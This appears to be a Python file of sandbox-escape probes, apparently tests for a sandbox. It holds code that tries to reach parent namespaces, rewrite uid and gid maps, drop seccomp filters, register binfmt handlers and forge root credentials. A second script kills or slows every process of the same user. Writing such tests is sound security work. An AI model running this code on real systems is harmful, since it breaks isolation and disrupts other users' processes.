"""More attacks, on what sandboxes share: their user, their kernel interfaces and the process that starts them."""

ATTACKS = r"""
def opens_the_parent_namespace():
    import fcntl
    found = []
    for name in ("user", "pid", "mnt", "net"):
        for request in (0xB701, 0xB702):  # NS_GET_USERNS, NS_GET_PARENT
            end = os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
            try: found.append((name, request, fcntl.ioctl(end, request)))
            except OSError: pass
    return found
def escapes_the_oom_killer():
    return writable("/proc/self/oom_score_adj", "-1000") or writable("/proc/1/oom_score_adj", "-1000")
def opens_proc_files_for_writing():
    found = []
    for who in ("self", 1):
        for name in os.listdir(f"/proc/{who}"):
            try: os.close(os.open(f"/proc/{who}/{name}", os.O_WRONLY | os.O_NONBLOCK))
            except OSError: continue
            found.append((who, name))
    return found
def resets_its_oom_score():
    return writable("/proc/self/oom_score_adj", "0") or writable("/proc/1/oom_score_adj", "1000")
def claims_to_be_root():
    a, b = socket.socketpair()
    found = []
    for who in ((1, 0, 0), (os.getpid(), 0, 0)):
        try: found.append(a.sendmsg([b"x"], [(socket.SOL_SOCKET, 2, struct.pack("iii", *who))]))
        except OSError: pass
    return found
def drains_the_entropy_pool():
    import fcntl
    found = []
    for path in ("/dev/random", "/dev/urandom"):
        for request in (0x5201, 0x5204, 0x5206):
            try: found.append(fcntl.ioctl(os.open(path, os.O_RDWR), request, b"\0" * 64))
            except OSError: pass
    return found
def rewrites_its_id_maps():
    found = [writable(f"/proc/{who}/{name}", text) for who in ("self", 1) for name, text in (
        ("uid_map", "0 0 1"), ("gid_map", "0 0 1"), ("setgroups", "allow"), ("projid_map", "0 0 1"))]
    return [path for path in found if path]
def shifts_its_clock(): return writable("/proc/self/timens_offsets", "monotonic 100000 0")
def sees_sockets_of_others(): return open("/proc/net/unix").read().splitlines()[1:]
def finds_folders_in_open_files():
    found = []
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        try: ends = os.listdir(f"/proc/{pid}/fd")
        except OSError: continue
        for end in ends:
            path = f"/proc/{pid}/fd/{end}"
            try:
                if os.path.isdir(path) and not os.readlink(path).startswith("/proc/"): found.append(os.readlink(path))
            except OSError: pass
    return found
def finds_other_processes_by_pid():
    own = {int(pid) for pid in os.listdir("/proc") if pid.isdecimal()}
    found = []
    for pid in range(1, 70000):
        try: os.kill(pid, 0)
        except ProcessLookupError: continue
        except PermissionError: pass
        if pid not in own: found.append(pid)
    return found
def removes_its_seccomp_filter():
    libc.prctl(22, 0, 0, 0, 0)
    system_call(317, 277, 0, 0, 0)
    pid = os.fork()  # strict mode may now be active, which kills the caller
    if pid == 0: os._exit(1 if worked("unshare", 0x10000000) else 0)
    return os.waitpid(pid, 0)[1] >> 8 == 1
def raises_its_io_priority():
    for kind, who in ((1, 0), (3, 1000), (3, 0)):
        if system_call(251, 30, kind, who, 1 << 13): return kind, who
def sees_or_moves_cgroups():
    return readable("/sys/fs/cgroup") or writable("/proc/self/cgroup", "0::/") or writable("/proc/1/cgroup", "0::/")
def registers_a_binary_format(): return writable("/proc/sys/fs/binfmt_misc/register", ":a:M::x::/tmp/x:F")
def joins_a_keyring():
    return system_call(250, 219, 1, 0) or system_call(249, 218, b"user", b"k", None, -2) or readable("/proc/keys")
def sets_limits_of_others():
    found = []
    for pid in range(3, 3000):
        if os.path.exists(f"/proc/{pid}"): continue
        try: found.append(resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)))
        except (OSError, ValueError): pass
    return found
"""
DISRUPT_OTHERS = r"""
import ctypes, os, platform, resource, signal
libc = ctypes.CDLL(None)
signal.signal(signal.SIGCONT, lambda *_: None)
for which in (os.PRIO_USER, os.PRIO_PGRP):
    try: os.setpriority(which, 0, 19)
    except OSError: pass
libc.syscall(251 if platform.machine() == "x86_64" else 30, 3, 1000, 3 << 13)
for who in (-1, 0):
    if os.fork() == 0:
        for number in (signal.SIGUSR1, signal.SIGHUP, signal.SIGTERM, signal.SIGKILL):
            os.kill(who, number)
for end in os.listdir("/proc/1/fd"):
    try: os.write(os.open(f"/proc/1/fd/{end}", os.O_WRONLY | os.O_NONBLOCK), b"\n")
    except OSError: pass
"""
"""Kill itself, and try to kill, slow down or start all other processes of the same user."""

SEND_FILE_DESCRIPTORS = r"""
import array, os, socket
end = socket.socket(fileno=3)
files = array.array("i", [os.open("/usr", os.O_RDONLY) for _ in range(20)])
for _ in range(50):
    end.sendmsg([f"{nonce} 0 1\n".encode() if "nonce" in globals() else b"x"], [(1, 1, files)])
"""
"""Send open files to the reader of its results."""
